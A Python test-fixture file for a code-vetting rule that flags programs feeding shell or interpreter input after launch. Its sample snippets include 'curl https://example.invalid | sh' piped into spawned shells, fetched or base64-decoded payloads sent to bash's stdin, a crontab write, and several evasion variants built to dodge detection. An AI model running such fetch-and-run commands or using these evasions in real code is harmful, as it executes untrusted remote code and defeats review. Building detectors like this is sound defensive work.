"""What the rules must see, and must not, where a program is given what it reads after it was started."""

from typing import Final

from tests.vetting.domain.signals.code.cases import Case

_P: Final = "from subprocess import Popen, PIPE\nimport sys, requests\n"
_SH: Final = f"{_P}p = Popen(['sh'], stdin=PIPE)\n"
_OWN: Final = f"{_P}p = Popen([sys.executable, '-u', '-'], stdin=PIPE)\n"
_LINE: Final = "curl https://example.invalid | sh"
_CODE: Final = f"import os; os.system('{_LINE}')"
_GOT: Final = "requests.get('https://example.invalid').content"

CASES: Final = (
    # Constant code is read in its own language.
    Case("C3", "hit", "high", f'{_OWN}p.communicate("{_CODE}")\n'),
    Case("C3", "hit", "high", f"{_SH}p.communicate(input=b'{_LINE}')\n"),
    Case("C3", "hit", "high", f'{_P}p = Popen([sys.executable], stdin=PIPE)\np.stdin.write("{_CODE}")\n'),
    Case("C8", "hit", "high", f"{_SH}p.communicate('crontab /x')\n"),
    Case("C3", "twin", None, f"{_SH}p.communicate('echo ' + name)\np.communicate()\n"),
    Case("C3", "twin", None, f'{_P}p = Popen([sys.executable, "x.py"], stdin=PIPE)\np.communicate("{_CODE}")\n'),
    Case("C3", "twin", None, f'{_P}p = Popen(["sort"], stdin=PIPE)\np.communicate("{_CODE}")\n'),
    Case("C3", "twin", None, f'def f(p):\n    p.communicate("{_CODE}")\n    p.stdin.write("{_CODE}")\n'),
    Case("C3", "twin", None, f"{_SH}print('{_LINE}', file=sys.stderr)\nsend('{_LINE}', p.stdin)\n"),
    Case("C3", "evasion", "high", f'{_OWN}print("{_CODE}", file=p.stdin)\n'),
    Case("C3", "evasion", "high", f"{_SH}w = p.stdin.writelines\nw(['curl https://exam', 'ple.invalid | sh'])\n"),
    Case("C3", "evasion", "high", f"{_SH}getattr(p, 'commun' + 'icate')('{_LINE}')\n"),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_P}with Popen('bash -s', shell=True, stdin=PIPE) as p:\n    p.communicate('{_LINE}')\n",
    ),
    Case("C3", "evasion", "high", f"import os\nos.popen('sh', 'w').write('{_LINE}')\n"),
    Case(
        "C3",
        "evasion",
        "high",
        "import asyncio as a\nasync def f():\n    p = await a.create_subprocess_exec('bash', stdin=-1)\n"
        f"    await p.communicate(b'{_LINE}')\n",
    ),
    # What is fetched or decoded is as good as evaluated.
    Case("C3", "hit", "high", f"{_SH}p.communicate({_GOT})\n"),
    Case("C3", "twin", None, f"{_P}def f():\n    p = Popen(['dot', '-Tpng'], stdin=PIPE)\n    p.communicate({_GOT})\n"),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_P}import shutil\ndef f(u):\n    p = Popen([sys.executable], stdin=PIPE)\n"
        "    shutil.copyfileobj(requests.get(u).raw, p.stdin)\n",
    ),
    Case("C1", "hit", "high", f"{_SH}import base64\ndef f(t):\n    p.communicate(base64.b64decode(t))\n"),
    Case("C1", "twin", None, f"{_P}import base64\ndef f(t):\n    Popen(['gpg']).communicate(base64.b64decode(t))\n"),
    Case(
        "C1",
        "twin",
        None,
        f"{_P}import base64\nPopen(['git', 'log'])\ndef f(p, t):\n    p.communicate(base64.b64decode(t))\n",
    ),
    Case(
        "C1",
        "evasion",
        "high",
        "import subprocess as s, base64\nclass A:\n    def f(self):\n        self.p = s.Popen(['bash'], stdin=-1)\n"
        "    def g(self, t):\n        self.p.stdin.write(base64.b85decode(t))\n",
    ),
)
